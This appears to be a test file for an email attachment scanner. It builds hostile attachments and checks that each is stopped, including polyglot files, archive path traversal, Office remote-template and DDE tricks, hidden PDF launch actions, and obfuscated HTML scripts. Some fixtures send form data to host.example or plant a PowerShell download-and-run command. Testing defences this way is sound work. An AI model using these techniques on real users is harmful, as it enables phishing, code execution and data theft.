// Attachments as an attacker would make them: none reaches a person under the default pack. Near misses do.
import { fileURLToPath } from 'node:url';
import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { readPolicyFolder } from '../../../../adapters/local/policy-folder.ts';
import { examine } from '../../../../core/mail/examine.ts';
import { scanFile } from '../../../../core/mail/scan-file.ts';
import { loadRulebook } from '../../../../core/rulebook/load-rulebook.ts';
import { withAttachment } from '../../../../tools/evaluate/wrap.ts';
import { macroProject } from '../../../corpus/make/macro-project.ts';
import { programBytes, tarOf, zipOf } from '../../extract/archive-bytes.ts';
import { pdfOf } from '../../extract/containers/locked-files.ts';
import { lockedPdf } from '../../extract/locked/locked-documents.ts';
import { compoundFile, docx, rels, zip } from '../../extract/readers/build.ts';

const { files, pack } = readPolicyFolder(fileURLToPath(new URL('../../../../policy', import.meta.url)), 'default');
const rulebook = loadRulebook(files, pack);
const now = () => performance.now();
const letter = { from: 'a@outside.example', to: 'b@agency.example', subject: 'papers', body: 'See the file.' };

async function outcomeOf(name: string, content: string | Uint8Array): Promise<string> {
  const examiner = {
    examine: (raw: Uint8Array, context: Parameters<typeof examine>[1]) =>
      examine(raw, context, { rulebook, fingerprint: () => '', now }),
    strip: async () => new Uint8Array(),
  };
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  const options = { direction: 'inbound', ocr: false } as const;
  return (await scanFile('', withAttachment(letter, name, bytes), options, { examiner, rulebook, now })).outcome;
}

const program = Buffer.concat([programBytes(), Buffer.alloc(300)]);
const script = "<script>location = 'https://host.example'</script>";
const page = `<html><body>${script}</body></html>`;
const gif = Buffer.from('R0lGODlhAQABAAAAADs=', 'base64');
const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001', 'hex');
const pdf = (catalog = '') => pdfOf(null, catalog);
const open = (action: string) => pdf(` /OpenAction << ${action} >>`);
const then = (start: string | Uint8Array, rest: string | Uint8Array) =>
  Buffer.concat([Buffer.from(start), Buffer.from(rest)]);
const mso = Buffer.concat([
  Buffer.from('ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff\0\0\x07\xf0', 'latin1'),
  Buffer.alloc(24),
  deflateSync(macroProject()),
]);
const archive = [
  'MIME-Version: 1.0',
  'Content-Type: multipart/related; boundary=x',
  '',
  '--x',
  'Content-Type: text/html',
  '',
  '<html><link rel=Edit-Time-Data href="editdata.mso"></html>',
  '--x',
  'Content-Transfer-Encoding: base64',
  'Content-Type: application/x-mso',
  '',
  mso.toString('base64'),
  '--x--',
  '',
].join('\r\n');
const letterWith = (links: Readonly<Record<string, string>>) => docx('<w:p/>', {}, links);
const field = (code: string) => docx(`<w:p><w:fldSimple w:instr="${code}"/></w:p>`);
const sheet = (formula: string) =>
  zip({
    '_rels/.rels': rels({ officeDocument: 'xl/workbook.xml' }),
    'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="A" r:id="r1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels': rels({ worksheet: 'worksheets/s.xml' }),
    'xl/worksheets/s.xml': `<worksheet><sheetData><row><c r="A1"><f>${formula}</f></c></row></sheetData></worksheet>`,
  });
const openDocument = (body: string, more: Readonly<Record<string, string>> = {}) =>
  zip({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'META-INF/manifest.xml': '<manifest/>',
    'content.xml': `<office:document-content xmlns:office="o" xmlns:xlink="x">${body}<office:body/></office:document-content>`,
    ...more,
  });

/** An object stream behind the given filters; whoever opens the document starts a program. */
function hiddenLaunch(filter: string, encode: (data: Buffer) => string, name = 'ObjStm'): Buffer {
  const data = encode(Buffer.from('4 0 << /S /Launch /F (cmd.exe) >>'));
  const parts: Readonly<Record<number, string>> = {
    1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    5: `<< /Type /${name} /N 1 /First 4 /Filter ${filter} /Length ${data.length} >>\nstream\n${data}\nendstream`,
  };
  let file = '%PDF-1.5\n';
  const rows = [[0, 0, 255]];
  for (const [number, part] of Object.entries(parts)) {
    rows[Number(number)] = [1, file.length, 0];
    file += `${number} 0 obj\n${part}\nendobj\n`;
  }
  rows[4] = [2, 5, 0];
  rows[6] = [1, file.length, 0];
  const table = Buffer.concat(rows.map(([type = 0, at = 0, last = 0]) => Buffer.from([type, at >> 8, at & 255, last])));
  const start = file.length;
  file += `6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length ${table.length} >>\nstream\n${table.toString('latin1')}\nendstream\nendobj\n`;
  return Buffer.from(`${file}startxref\n${start}\n%%EOF\n`, 'latin1');
}

/** An entry whose header says one name and whose Unicode field another. */
function twoNames(plain: string, unicode: string): Buffer {
  const whole = Buffer.from(zip({ [plain]: 'x' }));
  const directory = whole.lastIndexOf('PK\x01\x02', undefined, 'latin1');
  const end = whole.lastIndexOf('PK\x05\x06', undefined, 'latin1');
  const extra = Buffer.from(`up${String.fromCharCode(unicode.length + 5)}\0\x01\0\0\0\0${unicode}`, 'latin1');
  const central = Buffer.from(whole.subarray(directory, end));
  central.writeUInt16LE(extra.length, 30);
  const tail = Buffer.from(whole.subarray(end));
  tail.writeUInt32LE(central.length + extra.length, 12);
  return Buffer.concat([whole.subarray(0, directory), central, extra, tail]);
}

/** Entries of a Word file whose document says `text`. */
const packageOf = (text: string) => [
  { name: '_rels/.rels', content: rels({ officeDocument: 'word/document.xml' }) },
  { name: 'word/document.xml', content: `<w:document><w:body><w:t>${text}</w:t></w:body></w:document>` },
];
const flat = (part: string) =>
  `<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">${part}</pkg:package>`;
const long = 'Please wait while the document is loaded. '.repeat(20);

describe('R-101 R-102 hostile attachments are stopped', () => {
  it.each<readonly [string, string | Uint8Array]>([
    // One thing at its beginning, another to whom opens it by its name.
    ['invoice.html', then(gif, page)],
    ['invoice.htm', then(png, page)],
    ['invoice.xhtml', then('\xff\xd8\xff\xe0', page)],
    ['invoice.shtml', then('RIFF\x24\0\0\0WAVEfmt ', page)],
    ['invoice.html.', then(zipOf([{ name: 'a.txt', content: 'x' }]), page)],
    ['picture.svg', then(pdf(), '<svg onload="run()"/>')],
    ['view.html', then(pdf(), page)],
    ['view.html', then(Buffer.from([1, 2, 0, 255, 254, 0, 9]), page)],
    ['view.html', `${'lorem ipsum '.repeat(3000)}<script>eval(unescape("%61"))</script>`],
    ['view.htm', `${' '.repeat(70_000)}${page}`],
    ['order.js', `GIF89a=1;${'run()'}`],
    ['order.hta', then(png, script)],
    ['order.bat', then(png, '\r\n@start calc\r\n')],
    ['report.doc', then(pdf(), archive)],
    ['report.doc', `GIF89a\r\n${archive}`],
    ['report.rtf', archive],
    ['report.doc', archive],
    ['report.doc', then(compoundFile({ WordDocument: Buffer.alloc(600) }), zipOf([{ name: 'a.txt', content: 'x' }]))],
    ['case.zip', then(gzipSync('x'), zipOf([{ name: 'a.txt', content: 'x' }]))],
    ['song.mp4', then('\0\0\0\x18ftypmp42\0\0\0\0', zipOf([{ name: 'a.txt', content: 'x' }]))],
    // Names.
    ['order.exe::$DATA', 'text'],
    ['order.js ', 'x'],
    ['order.pdf', program],
    ['case.zip', zipOf([{ name: 'a.js\0.txt', content: 'x' }])],
    ['case.zip', twoNames('run.js', 'run.txt')],
    ['case.zip', twoNames('run.txt', 'run.js')],
    ['case.zip', then(zipOf([{ name: 'a.js', content: 'x' }]), zipOf([{ name: 'a.txt', content: 'x' }]))],
    ['sandbox.wsb', '<Configuration><LogonCommand/></Configuration>'],
    // Archives that leave their folder.
    ['case.zip', zipOf([{ name: '../../Startup/a.txt', content: 'x' }])],
    ['case.zip', zipOf([{ name: 'a\\..\\..\\b.txt', content: 'x' }])],
    ['case.tar', tarOf([{ name: '../a.txt', content: 'x' }])],
    [
      'case.tar',
      tarOf([
        { name: 'docs', content: '', type: '2' },
        { name: 'docs/a.txt', content: 'x' },
      ]),
    ],
    ['case.tar.gz', gzipSync(tarOf([{ name: 'b.vbs', content: 'x' }]))],
    // Office files that fetch or start something.
    ['plan.docx', letterWith({ image: '!file://host.example/share/a.png' })],
    ['plan.docx', letterWith({ image: '!\\\\203.0.113.7\\share\\a.png' })],
    ['plan.docx', letterWith({ oleObject: '!file:///\\\\host.example@80\\a\\b.doc' })],
    ['plan.docx', letterWith({ subDocument: '!\\\\host.example\\a\\b.docx' })],
    ['plan.docx', letterWith({ oleObject: '!mhtml:https://host.example/a.html!x-usc:https://host.example/a.html' })],
    ['plan.docx', field('INCLUDEPICTURE \\\\\\\\host.example\\\\a\\\\b.png \\d')],
    ['plan.rtf', '{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\\\\\\\\\host.example\\\\\\\\a.png"}}}'],
    ['plan.rtf', '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105000001000000}}}'],
    ['plan.doc', '{\\rtA1{\\*\\template https://host.example/t.dotm}hello}'],
    ['plan.docx', docx('<w:p/>', { 'word/a.mht': archive }, { aFChunk: 'a.mht' })],
    ['plan.docx', docx('<w:p/>', { 'word/media/image1.png': program }, { image: 'media/image1.png' })],
    ['plan.docx', docx('<w:p/>', { 'word/x.bin': macroProject() }, { vbaProject: 'x.bin' })],
    ['list.xlsx', sheet("cmd|'/c calc'!A0")],
    ['list.csv', 'ID;P\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC("calc")\r\nE\r\n'],
    ['plan.odt', openDocument('<draw:image xlink:href="file://host.example/a.png"/>')],
    ['plan.odt', openDocument('<draw:object xlink:href="https://host.example/a.ods"/>')],
    ['plan.odt', openDocument('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;)"/>')],
    ['plan.odt', openDocument('<script:event-listener xlink:href="vnd.sun.star.script:a.py$x?language=Python"/>')],
    [
      'plan.fodt',
      '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><ooo:module>Shell("calc")</ooo:module></office:document>',
    ],
    ['plan.docx', zipOf([...packageOf('plan'), { name: 'word/document.xml', content: '<w:document/>' }])],
    [
      'plan.doc',
      `${flat('<Relationship Type="x/attachedTemplate" Target="https://host.example/t.dotm" TargetMode="External"/>')}`,
    ],
    [
      'plan.doc',
      '<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:attachedTemplate w:val="https://host.example/t.dot"/></w:wordDocument>',
    ],
    [
      'plan.doc',
      `<html><!--[if gte mso 9]><xml><w:AttachedTemplate HRef="https://host.example/t.dot"/></xml><![endif]--><p>${long}</p></html>`,
    ],
    ['list.xls', "<html><table><tr><td>=cmd|'/c calc'!A0</td></tr></table></html>"],
    ['print.ps', '%!PS\n(%pipe%calc) (w) file closefile\n'],
    // Pictures and XML that a browser runs.
    ['logo.svg', `<svg xmlns="http://www.w3.org/2000/svg"><g onload="run()"/></svg>`],
    ['logo.svg', `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>run()</s:script></s:svg>`],
    [
      'logo.svg',
      `<!DOCTYPE svg [<!ENTITY a "&#60;script>run()&#60;/script>">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>`,
    ],
    ['logo.svgz', gzipSync('<svg xmlns="http://www.w3.org/2000/svg"><script>run()</script></svg>')],
    ['data.xml', '<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>run()</x:script></x:html>'],
    [
      'data.xml',
      '<?xml version="1.0"?><d xmlns:m="urn:schemas-microsoft-com:xslt"><m:script language="JScript">run()</m:script></d>',
    ],
    // Pages that hide what they do.
    [
      'a.html',
      `<html><p>${long}</p><script>let o='';for(const c of [${'104,116,'.repeat(200)}1])o+=String.fromCharCode(c^7);document.body.insertAdjacentHTML('beforeend',o)</script></html>`,
    ],
    [
      'a.html',
      `<html><p>${long}</p><script>document.write("${'>tpircs/<'.repeat(20)}".split("").reverse().join(""))</script></html>`,
    ],
    [
      'a.html',
      `<html><p>${long}</p><script>WebAssembly.instantiate(Uint8Array.from(atob(d),c=>c.charCodeAt()))</script></html>`,
    ],
    ['a.html', `<html><p>${long}</p><script>var d="${program.toString('base64url')}";save(d)</script></html>`],
    ['a.html', `<html><p>${long}</p><script>var d="${program.toString('hex')}";save(d)</script></html>`],
    ['a.html', `<html><p>${long}</p><form><input name=k style="-webkit-text-security: disc"></form></html>`],
    [
      'a.html',
      '<html><script>fetch("https://host.example/p").then(r=>r.text()).then(t=>document.documentElement.innerHTML=t)</script></html>',
    ],
    ['a.html', `<html><p>${long}</p><img src="\\\\host.example\\a.png"></html>`],
    ['a.html', `<html><p>${long}</p><script language="JScript.Encode">#@~^CAAAAA==abc^#~@</script></html>`],
    ['a.html', '<html><base href="https://host.example/"><script src="a.js"></script></html>'],
    ['a.html', '<html><script>self["loc"+"ation"]["hr"+"ef"]="https:"+"//host.example"</script></html>'],
    ['a.html', '<html><form id=f action="https://host.example/"></form><script>f.submit()</script></html>'],
    ['a.html', '<html><a id=a href="https://host.example/"></a><script>a.click()</script></html>'],
    ['a.html', "<html><script>[].constructor.constructor(atob('YWxlcnQoMSk='))()</script></html>"],
    ['a.html', "<html><script type=module>import x from 'https://host.example/a.js'</script></html>"],
    ['a.html', '<html><input id=x><script>navigator.sendBeacon("https://host.example/", x.value)</script></html>'],
    ['a.html', '<html><embed src="data:image/svg+xml,%3Csvg onload=run()%3E"></html>'],
    [
      'a.html',
      `<html><p>${long}</p><script>navigator.clipboard.writeText("powershell -w hidden -c iwr https://host.example|iex")</script></html>`,
    ],
    ['a.html', '<html><applet code="a.class"></applet></html>'],
    // PDF.
    ['a.pdf', open('/S /L#61unch /F <636d642e657865>')],
    ['a.pdf', open('/S /SubmitForm /F (\\\\\\\\host.example\\\\a)')],
    ['a.pdf', open('/S /URI /URI (file://host.example/a)')],
    ['a.pdf', lockedPdf('hello', '', "this.exportDataObject({cName:'a.exe',nLaunch:2})")],
    ['a.pdf', hiddenLaunch('/FlateDecode', (data) => deflateSync(data).toString('latin1'))],
    ['a.pdf', hiddenLaunch('/FlateDecode', (data) => deflateSync(data).toString('latin1'), 'Obj#53tm')],
    ['a.pdf', hiddenLaunch('[/AHx /Fl]', (data) => `${deflateSync(data).toString('hex')}>`)],
    ['a.pdf', hiddenLaunch('/ASCIIHexDecode', (data) => `${data.toString('hex')}>`)],
    // Cards.
    ['a.vcf', 'BEGIN:VCARD\r\nVERSION:3.0\r\nURL:https://host.example\\..\\..\\a.exe\r\nEND:VCARD\r\n'],
    ['a.ics', 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:\\\\host.example\\a\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'],
  ])('%s (%#)', async (name, content) => {
    expect(await outcomeOf(name, content)).toMatch(/^(?:strip|hold)$/);
  });
});

describe('R-101 R-102 what looks like them goes through', () => {
  it.each<readonly [string, string | Uint8Array]>([
    ['picture.gif', gif],
    ['report.pdf', pdf()],
    ['report.doc', pdf()],
    ['minutes.html', `<html><p>${long}</p></html>`],
    ['minutes.html', 'no markup at all'],
    ['case.zip', zipOf([{ name: 'a/../b.txt', content: 'x' }])],
    [
      'case.tar',
      tarOf([
        { name: 'docs', content: '', type: '2' },
        { name: 'docs.txt', content: 'x' },
      ]),
    ],
    ['plan.docx', zipOf(packageOf('plan'))],
    ['a.html', `<html><p>${long}</p><a href="https://host.example/">on</a><script>menu.click()</script></html>`],
    ['a.html', `<html><p>${long}</p><script>navigator.clipboard.writeText(code.innerText)</script></html>`],
    ['a.html', '<html><p>hello</p><img src="//host.example/a.png"><img src="file:///C:/a.png"></html>'],
    ['print.ps', '%!PS\n(through a pipe) show\n'],
    ['plan.docx', letterWith({ image: '!file:///C:/pictures/a.png', hyperlink: '!https://host.example/' })],
    ['plan.docx', letterWith({ image: '!\\\\fileserver\\share\\a.png' })],
    ['plan.docx', letterWith({ image: '!\\\\192.168.1.4\\share\\a.png' })],
    ['logo.svg', '<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg xmlns="&ns;"><circle r="4"/></svg>'],
    ['data.xml', '<?xml version="1.0"?><play><script>Enter a ghost.</script></play>'],
    ['locked.pdf', lockedPdf('hello', '')],
    ['a.vcf', 'BEGIN:VCARD\r\nVERSION:3.0\r\nURL:https://host.example/a\r\nEND:VCARD\r\n'],
  ])('%s (%#)', async (name, content) => {
    expect(await outcomeOf(name, content)).toMatch(/^(?:deliver|flag)$/);
  });
});
